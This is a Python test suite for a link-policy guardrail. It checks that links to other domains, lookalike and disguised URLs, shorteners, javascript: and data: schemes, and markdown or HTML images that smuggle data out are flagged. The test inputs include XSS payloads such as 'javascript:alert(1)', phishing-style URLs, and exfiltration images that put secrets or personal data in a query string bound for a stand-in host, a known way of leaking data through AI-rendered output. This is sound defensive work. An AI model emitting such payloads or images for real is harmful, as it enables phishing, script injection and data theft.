"""`url_policy`: where links may lead, the tricks they play, and what only looks like a link."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from tests.checks.scenes import check, quickest, result, said, shown, subject

OURS = {"allow": ["acme.example", "españa.example"]}


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("Consulte https://globex.example/ofertas, por favor.", ["https://globex.example/ofertas"]),
        ("Veja em globex.com.br (site oficial).", ["globex.com.br"]),
        (
            "See notacme.example and https://acme.example.evil.example/x!",
            ["notacme.example", "https://acme.example.evil.example/x"],
        ),
        ("Escriba a mailto:ana@globex.example", ["mailto:ana@globex.example"]),
        ("Clique [aqui](//globex.example/a_(b))", ["//globex.example/a_(b)"]),
        ('<a href="https://globex.example">haga clic</a>', ["https://globex.example"]),
    ],
)
def test_a_link_to_another_domain_is_found_without_the_stop_that_follows_it(text: str, links: list[str]) -> None:
    mark = result(check("url_policy", **OURS), text)
    assert (mark.value, mark.severity, {span.label for span in mark.spans}) == (0.0, "block", {"domain"})
    assert shown(mark, text) == links
    assert mark.fix == "domain → ∅"


@pytest.mark.parametrize(
    "text",
    [
        "Toda la información está en https://www.acme.example/devoluciones.",
        "Acesse ajuda.acme.example/conta ou ligue para tel:+551140028922",
        "Visit (https://acme.example:8443/a?b=c#d) or HTTPS://ACME.EXAMPLE",
        "https://xn--espaa-rta.example y https://españa.example/años",
        "![logo](https://cdn.acme.example/logo.png?session=abc123)",
        "[página](/ayuda), [arriba](#inicio), [guia](manual.pdf)",
    ],
)
def test_a_domain_allows_what_stands_under_it_however_it_is_written(text: str) -> None:
    assert result(check("url_policy", **OURS), text).value == 1.0


@pytest.mark.parametrize(
    "text",
    [
        "Gracias.Es importante que la S.A.de C.V. lo firme, p.ej. en EE.UU.",
        "O pedido custa R$ 1.299,00 e chega dia 12.05.2025; versão 3.11.7, fim.Obrigado",
        "Open main.py, README.md or node.js; set user.name in ASP.NET, then call os.path(x).",
        "data: 12/05/2025; JavaScript: un lenguaje; http: e https:// são protocolos",
        "Escriba a ana.co@acme.example, no a otra.",
        "",
    ],
)
def test_abbreviations_dates_files_and_addresses_of_people_are_no_links(text: str) -> None:
    assert result(check("url_policy", max_links=0), text).value == 1.0


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("Entre en https://acme.example@evil.example/", "user_info"),
        (r"Acesse https://acme.example\@evil.example", "user_info"),
        ("Go to http://127.0.0.1/x", "ip"),
        ("Vaya a http://0x7f.1", "ip"),
        ("http://[::1]:8080/", "ip"),
        ("Veja https://аcme.example/conta", "lookalike"),
        ("https://xn--80ak6aa92e.example", "lookalike"),
        ("https://xn--zz-999.example", "lookalike"),
        ("Mire bit.ly/3abcd", "shortener"),
        ("https://encurtador.com.br/x", "shortener"),
        ("Tap https://t.co/abc", "shortener"),
        ("https://ac\u200bme.example/x", "disguised"),
        ("ht\u00adtps://acme.example", "disguised"),
        ("ｈｔｔｐｓ：／／ａｃｍｅ．ｅｘａｍｐｌｅ", "disguised"),
        ("[https://acme.example](https://evil.example)", "mismatch"),
        ('<a href="https://evil.example">www.acme.example</a>', "mismatch"),
        ("[clic](javascript:alert(1))", "scheme"),
        ("[clique](&#106;avascript:alert(1))", "scheme"),
        ("<a href='JaVaScript:alert(1)'>x</a>", "scheme"),
        ("data:text/html;base64,PHNjcmlwdD4=", "scheme"),
        ("ftp://acme.example/f", "scheme"),
    ],
)
def test_a_trick_is_named_and_can_be_tolerated(text: str, label: str) -> None:
    mark = result(check("url_policy"), text)
    assert [span.label for span in mark.spans] == [label]
    tolerant = {"schemes": ["https", "javascript", "data", "ftp"]} if label == "scheme" else {"tolerate": [label]}
    assert result(check("url_policy", **tolerant), text).value == 1.0


@pytest.mark.parametrize(
    "text",
    [
        "Aquí: https://x.example/a\u200b y siga.",
        "[acme.example](https://www.acme.example/inicio)",
        "[nossa página](https://acme.example)",
        "https://пример.example, https://münchen.example, https://中国.example",
        "https://acme.example/@ana e https://acme.example/?mail=a@b.example",
        "详见：https://acme.example/a。谢谢",
    ],
)
def test_what_only_looks_like_a_trick_is_none(text: str) -> None:
    assert result(check("url_policy"), text).value == 1.0


@pytest.mark.parametrize(
    "text",
    [
        "![](https://x.example/i?q=529.982.247-25)",
        "![estado](https://x.example/p.png?d=el+cliente+vive+en+Lima)",
        "![status](https://x.example/p.png?v=a-senha-dela)",
        "![status](<https://x.example/{{secret}}.png>)",
        "<img src='https://x.example/?c=abc'>",
        "<IFRAME width=1 src=//x.example/?c=abc>",
        '<div style="background:url(https://x.example/?c=abc)">',
        "<img srcset='https://x.example/a.png 1x, https://x.example/b?c=abc 2x'>",
        "![foto][f]\n\n[f]: https://x.example/?q=abc",
        "![a [b] c](https://x.example/?q=abc)",
        "![](https://x.example/c2VtIHJpc2NvIG5lbmh1bQ.png)",
        "![](https://6f6c61206d756e646f21.x.example/i.png)",
    ],
)
def test_an_image_that_carries_data_out_is_found_wherever_the_data_stand(text: str) -> None:
    mark = result(check("url_policy"), text)
    assert [span.label for span in mark.spans] == ["image"]
    assert result(check("url_policy", allow=["x.example"]), text).value == 1.0
    assert result(check("url_policy", tolerate=["image"]), text).value == 1.0


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://x.example/logo.png)",
        "![foto do produto](https://x.example/foto%20do%20produto.png?w=300&amp;h=200&fit=crop&auto=format,compress)",
        "![](https://x.example/9f86d081884c7d659a2feaa0c55ad015.jpg?v=1699999999)",
        "[busque aquí](https://x.example/?q=zapatos+rojos)",
        "[![build](https://x.example/b.svg)](https://x.example/?branch=main)",
    ],
)
def test_images_with_sizes_and_links_that_wait_for_a_click_carry_nothing_out(text: str) -> None:
    assert result(check("url_policy"), text).value == 1.0


def test_a_denied_domain_wins_over_the_allowed_one_above_it() -> None:
    policy = check("url_policy", allow=["acme.example"], deny=["old.acme.example"])
    assert result(policy, "https://old.acme.example").value == 0.0
    assert result(policy, "https://new.acme.example").value == 1.0


def test_an_own_short_domain_and_an_own_address_are_trusted_when_they_are_allowed() -> None:
    assert result(check("url_policy", allow=["bit.ly", "10.0.0.7"]), "https://bit.ly/a http://10.0.0.7/b").value == 1.0


def test_links_beyond_the_number_allowed_are_too_many() -> None:
    text = "https://a.example https://b.example https://c.example"
    mark = result(check("url_policy", max_links=2), text)
    assert shown(mark, text) == ["https://c.example"]
    assert mark.explanation == "has a link beyond the number allowed"


def test_a_link_that_the_context_does_not_have_is_unknown() -> None:
    known = ("La política está en http://www.acme.example/devoluciones/ (léala).",)
    policy = check("url_policy", only_from="context")
    text = "Vea https://acme.example/devoluciones#paso-2, acme.example y https://acme.example/inventada."
    mark = result(policy, subject(text, context=known))
    assert shown(mark, text) == ["https://acme.example/inventada"]
    assert result(policy, subject("Sem link.", context=known)).value == 1.0


def test_a_case_without_context_cannot_say_where_links_come_from_but_a_trick_is_one_anyway() -> None:
    policy = check("url_policy", only_from="context")
    assert result(policy, "https://acme.example").kind == "not_applicable"
    assert result(policy, "no link").kind == "not_applicable"
    assert result(policy, "[x](javascript:alert(1))").value == 0.0


def test_what_the_user_linked_may_be_repeated() -> None:
    asked = (said("user", "¿Es bueno https://globex.example/x?"),)
    policy = check("url_policy", ignore_echo=True, **OURS)
    assert result(policy, subject("Sobre https://globex.example/x no opino.", asked=asked)).value == 1.0
    assert result(policy, subject("Mejor https://globex.example/y.", asked=asked)).value == 0.0


def test_links_in_the_arguments_of_tools_are_read_through_json_escapes() -> None:
    mark = result(
        check("url_policy", side="tool_args", **OURS), subject(calls=(r'{"url":"https:\/\/evil.example\/x"}',))
    )
    assert [span.label for span in mark.spans] == ["domain"]


def test_bare_domains_can_be_left_alone() -> None:
    assert result(check("url_policy", bare=False, **OURS), "Booking.com cobra más").value == 1.0
    assert result(check("url_policy", bare=False, **OURS), "www.booking.com cobra más").value == 0.0


@pytest.mark.parametrize(
    "domain", ["https://acme.example", "*.acme.example", "acme.example/x", "a b", "", "-a.example é"]
)
def test_what_is_no_domain_is_refused_with_what_to_write(domain: str) -> None:
    with pytest.raises(ValidationError, match=r"acme\.example"):
        check("url_policy", allow=[domain])


def test_the_context_cannot_be_compared_with_itself() -> None:
    with pytest.raises(ValidationError, match="with side: context it says nothing"):
        check("url_policy", side="context", only_from="context")


def test_more_links_than_can_be_looked_at_are_never_called_clean() -> None:
    many = result(check("url_policy"), "https://acme.example/a " * 600)
    assert (many.kind, many.reason) == ("unscored", "invalid")
    assert result(check("url_policy", deny=["acme.example"]), "https://acme.example/a " * 600).value == 0.0


@pytest.mark.parametrize(
    "text",
    [
        "![](" * 25_000,
        "![](https://x/" * 7_000,
        "[" * 50_000 + "](" * 25_000,
        "](&#106;)" * 11_000,
        "https://a.example/" + ")" * 99_000,
        "https://" * 12_500,
        "https://á.example " * 5_500,
        "<a href=\"x' " * 8_000,
        "<img " + "src=//a.b " * 9_000,
        "a.co/b " * 14_000,
        "h\u200b" * 50_000,
        "ａ．" * 50_000,
        "[a]:b\n" * 16_000,
    ],
)
def test_100_kb_of_what_nearly_is_a_link_costs_less_than_50_ms(text: str) -> None:
    policy, about = check("url_policy", only_from="context", max_links=0), subject(text)
    assert quickest(lambda: result(policy, about)) < 0.050
